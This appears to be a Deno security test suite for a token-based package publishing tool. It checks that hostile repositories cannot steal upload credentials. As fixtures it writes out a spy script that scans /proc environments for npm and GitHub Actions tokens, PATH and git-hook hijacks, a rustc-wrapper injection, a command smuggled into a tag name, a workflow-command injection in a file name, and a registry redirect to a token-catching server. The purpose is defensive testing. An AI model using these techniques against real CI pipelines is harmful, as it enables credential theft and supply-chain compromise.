import { assert, assertEquals } from "@std/assert";
import { forms } from "../e2e/forms.ts";
import { commit, git } from "../repository.ts";
import { inWorld, type World } from "../e2e/world.ts";
import { holdsToken, tgz, thief } from "./thief.ts";

const [form] = forms;

/** Replaces the npm package's script that runs while it is packed. */
async function packScript(world: World, script: string): Promise<void> {
  const path = `${world.root}/npm/package.json`;
  const manifest = JSON.parse(await Deno.readTextFile(path));
  manifest.scripts = { prepack: "node evil.cjs" };
  await Deno.writeTextFile(path, JSON.stringify(manifest));
  await Deno.writeTextFile(`${world.root}/npm/evil.cjs`, script);
  await commit(world.root, "Evil");
}

Deno.test("a token minted for one host is not uploaded with to another one", async () => {
  const other = thief("{}", "404 Not Found");
  try {
    await inWorld(form!, { only: ["@acme/e2e"] }, async (world) => {
      const path = `${world.root}/keyless.toml`;
      const text = await Deno.readTextFile(path);
      await Deno.writeTextFile(
        path,
        text.replace(/(\[registry\.local-npm\][^[]*?index = )"[^"]*"/, `$1"${other.origin}/"`),
      );
      await world.run(["publish", "--allow-dirty"]);
    });
    assertEquals(other.loot.filter(holdsToken).map((text) => text.split("\r\n")[0]), []);
  } finally {
    await other.close();
  }
});

Deno.test("what a log file gets of stderr holds no token, although the runner cannot be asked to mask it there", async () => {
  await inWorld(form!, { only: ["@acme/e2e"] }, async (world) => {
    const log = `${world.canary.home}/../stderr.log`;
    const [program, ...words] = form!.words;
    const quoted = [program!, ...words, "publish"].map((word) => `'${word}'`).join(" ");
    const started = world.start([], { form: { ...form!, words: ["/bin/sh", "-c", `${quoted} 2>'${log}'`] } });
    await started.output();
    const text = await Deno.readTextFile(log);
    assertEquals(text.split("\n").filter(holdsToken).map((line) => line.slice(0, 24)), []);
  });
});

/** Looks for a token in every process that it may look into, for as long as it lives. */
const SPY = `
const fs = require("fs");
const found = (text) => /npm_config_\\/\\/[^=]*_authToken=/.test(text);
const until = Date.now() + 25000;
while (Date.now() < until) {
  for (const pid of fs.readdirSync("/proc")) {
    if (!/^[0-9]+$/.test(pid)) continue;
    try {
      const text = fs.readFileSync("/proc/" + pid + "/environ", "latin1");
      if (found(text) && text.includes("KEYLESS_SPY_PLACE") === false && text.includes(process.argv[2])) { fs.writeFileSync(process.argv[3], "stolen"); process.exit(); }
    } catch {}
  }
}
`;

Deno.test({
  name: "a process that packing leaves behind in its process group sees no token of the upload",
  ignore: Deno.build.os !== "linux",
  fn: async () => {
    await inWorld(form!, { only: ["@acme/e2e"] }, async (world) => {
      const place = `${world.canary.home}/..`;
      await Deno.writeTextFile(`${place}/spy.cjs`, SPY);
      await packScript(
        world,
        `require("child_process").spawn(process.execPath, [${JSON.stringify(`${place}/spy.cjs`)}, ${
          JSON.stringify(world.canary.temporary)
        }, ${JSON.stringify(`${place}/stolen`)}], { detached: false, stdio: "ignore" }).unref();`,
      );
      const { code, stderr } = await world.run(["publish"]);
      assertEquals(code, 0, stderr);
      assertEquals(await Deno.readTextFile(`${place}/stolen`).catch(() => "nothing"), "nothing");
    });
  },
});

Deno.test({
  name: "the documentation says that a build in the same job can look into keyless itself",
  ignore: Deno.build.os !== "linux",
  fn: async () => {
    let seen = "";
    await inWorld(form!, { only: ["@acme/e2e"] }, async (world) => {
      const place = `${world.canary.home}/..`;
      await packScript(
        world,
        `const fs = require("fs");
let pid = process.ppid;
while (pid > 1) {
  try {
    const text = fs.readFileSync("/proc/" + pid + "/environ", "latin1");
    if (/ACTIONS_ID_TOKEN_REQUEST_TOKEN=/.test(text)) { fs.writeFileSync(${
          JSON.stringify(`${place}/seen`)
        }, "request token"); break; }
    pid = Number(/PPid:\\s+(\\d+)/.exec(fs.readFileSync("/proc/" + pid + "/status", "latin1"))[1]);
  } catch { break; }
}`,
      );
      await world.run(["publish"]);
      seen = await Deno.readTextFile(`${place}/seen`).catch(() => "");
    });
    const pages = await Promise.all(["README.md", "docs/publish.md"].map((path) => Deno.readTextFile(path)));
    if (seen) {
      for (const page of pages) {
        assert(/same user|\/proc|one job (?:cannot|does not) protect/i.test(page), "no word about it");
      }
    }
  },
});

Deno.test("what lies above the temporary directory has no say in packing", async () => {
  await inWorld(form!, { only: ["e2e-core"] }, async (world) => {
    const above = world.canary.temporary;
    await Deno.mkdir(`${above}/.cargo`);
    await Deno.writeTextFile(
      `${above}/wrapper`,
      `#!/bin/sh\necho "$1" >>'${world.canary.home}/../wrapped'\nexec "$@"\n`,
      { mode: 0o755 },
    );
    await Deno.writeTextFile(`${above}/.cargo/config.toml`, `[build]\nrustc-wrapper = "${above}/wrapper"\n`);
    const { code, stderr } = await world.run(["pack"]);
    assertEquals(code, 0, stderr);
    assertEquals(await Deno.readTextFile(`${world.canary.home}/../wrapped`).catch(() => ""), "");
  });
});

for (const entry of [".", "", "bin", "./bin"]) {
  Deno.test(`a relative entry of PATH (${JSON.stringify(entry)}) lets no program of the repository be started`, async () => {
    await inWorld(form!, { only: ["@acme/e2e"] }, async (world) => {
      const place = `${world.canary.home}/..`;
      for (const program of ["git", "node", "rustup"]) {
        const directory = entry === "" ? world.root : `${world.root}/${entry}`;
        await Deno.mkdir(directory, { recursive: true });
        await Deno.writeTextFile(
          `${directory}/${program}`,
          `#!/bin/sh\necho ${program} >>'${place}/hijacked'\nexit 1\n`,
          { mode: 0o755 },
        );
      }
      await commit(world.root, "Programs");
      await world.run(["publish"], {
        env: { PATH: `${entry}:${world.canary.shims}:${Deno.env.get("PATH")}` },
      });
      assertEquals(await Deno.readTextFile(`${place}/hijacked`).catch(() => ""), "");
    });
  });
}

Deno.test("of what the repository's own git settings name only filters are started, and those see no secret", async () => {
  await inWorld(form!, { only: ["@acme/e2e"] }, async (world) => {
    const place = `${world.canary.home}/..`;
    for (const what of ["gpg", "fsmonitor", "filter", "ssh", "pager", "hook"]) {
      const script =
        `#!/bin/sh\necho ${what} >>'${place}/started-by-git'\nenv >>'${place}/environments'\ncat\n`;
      await Deno.writeTextFile(`${place}/${what}`, script, { mode: 0o755 });
    }
    const set = (name: string, value: string) => git(world.root, "config", name, value);
    await Deno.mkdir(`${place}/hooks`);
    for (const hook of ["post-checkout", "reference-transaction", "post-index-change"]) {
      await Deno.copyFile(`${place}/hook`, `${place}/hooks/${hook}`);
    }
    await Deno.writeTextFile(`${world.root}/.gitattributes`, "*.md filter=lfs\n");
    await Deno.writeTextFile(`${world.root}/x.md`, "x\n");
    await commit(world.root, "Attributes");
    await set("core.hooksPath", `${place}/hooks`);
    await set("core.fsmonitor", `${place}/fsmonitor`);
    await set("core.sshCommand", `${place}/ssh`);
    await set("core.pager", `${place}/pager`);
    await set("filter.lfs.smudge", `${place}/filter`);
    await set("filter.lfs.clean", `${place}/filter`);
    await set("log.showSignature", "true");
    await set("gpg.program", `${place}/gpg`);
    await world.run(["publish"]);
    const started = (await Deno.readTextFile(`${place}/started-by-git`)).trim().split("\n");
    assertEquals([...new Set(started)], ["filter"]);
    const seen = await Deno.readTextFile(`${place}/environments`);
    assertEquals(seen.split("\n").filter((line) => /CANARY|ACTIONS_|TOKEN|KEYLESS_/.test(line)), []);
  });
});

Deno.test("settings that a rehearsal prints for a shell are one word each, whatever the workflow says", async () => {
  await inWorld(form!, { only: ["@acme/e2e"] }, async (world) => {
    await Deno.mkdir(`${world.root}/.github/workflows`, { recursive: true });
    await Deno.writeTextFile(
      `${world.root}/.github/workflows/release.yml`,
      `on:\n  push:\n    tags: ["v1';touch pwned;'"]\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    environment: release\n    permissions: { id-token: write }\n    steps:\n      - run: keyless publish\n`,
    );
    await commit(world.root, "Workflow");
    const started = world.start(["rehearse", "--serve"]);
    const reader = started.stdout.getReader();
    const { value } = await reader.read();
    const text = new TextDecoder().decode(value);
    started.kill("SIGINT");
    reader.releaseLock();
    await started.output().catch(() => null);
    await new Deno.Command("/bin/sh", { args: ["-c", text], cwd: world.root }).output();
    assertEquals(await Deno.stat(`${world.root}/pwned`).then(() => "ran", () => "no"), "no", text);
  });
});

Deno.test("a file that the build adds to what it packed cannot keep the runner from masking tokens", async () => {
  await inWorld(form!, { only: ["@acme/e2e"] }, async (world) => {
    const place = `${world.canary.home}/..`;
    await Deno.writeFile(
      `${place}/evil.tgz`,
      await tgz([{ path: "package/package.json", content: '{"name":"@acme/e2e","version":"1.0.0"}' }]),
    );
    await packScript(
      world,
      `require("fs").copyFileSync(${
        JSON.stringify(`${place}/evil.tgz`)
      }, process.env.npm_config_pack_destination + "/A\\n::stop-commands::pwned\\n.tgz");`,
    );
    const { stderr } = await world.run(["publish"]);
    const lines = stderr.split("\n").map((line) => line.trim());
    assertEquals(lines.indexOf("::stop-commands::pwned"), -1);
  });
});

/** A sparse index that wants a credential before it shows anything. */
async function withDependency(
  use: (world: World, index: ReturnType<typeof thief>) => Promise<void>,
): Promise<void> {
  const index = thief('{"dl":"http://127.0.0.1:9/dl","api":"http://127.0.0.1:9","auth-required":true}');
  try {
    await inWorld(form!, { only: ["e2e-core"] }, async (world) => {
      await Deno.writeTextFile(
        `${world.canary.home}/.cargo/credentials.toml`,
        '[registries.company]\ntoken = "cioCANARYcargoCredentialsCompany0000"\n',
      );
      await Deno.writeTextFile(
        `${world.canary.home}/.cargo/config.toml`,
        '[registries.company]\nindex = "sparse+https://company.invalid/index/"\n',
      );
      await Deno.mkdir(`${world.root}/.cargo`);
      await Deno.writeTextFile(
        `${world.root}/.cargo/config.toml`,
        `[registry]\nglobal-credential-providers = ["cargo:token"]\n[registries.company]\nindex = "sparse+${index.origin}/"\n`,
      );
      const manifest = `${world.root}/core/Cargo.toml`;
      await Deno.writeTextFile(
        manifest,
        (await Deno.readTextFile(manifest)) +
          '\n[dependencies]\nx = { version = "1", registry = "company" }\n',
      );
      await commit(world.root, "Dependency");
      await use(world, index);
    });
  } finally {
    await index.close();
  }
}

Deno.test("the repository's cargo settings cannot have packing send the user's token for a registry to another host", async () => {
  await withDependency(async (world, index) => {
    await world.run(["pack"]);
    assertEquals(index.loot.filter(holdsToken).map((text) => text.split("\r\n")[0]), []);
  });
});
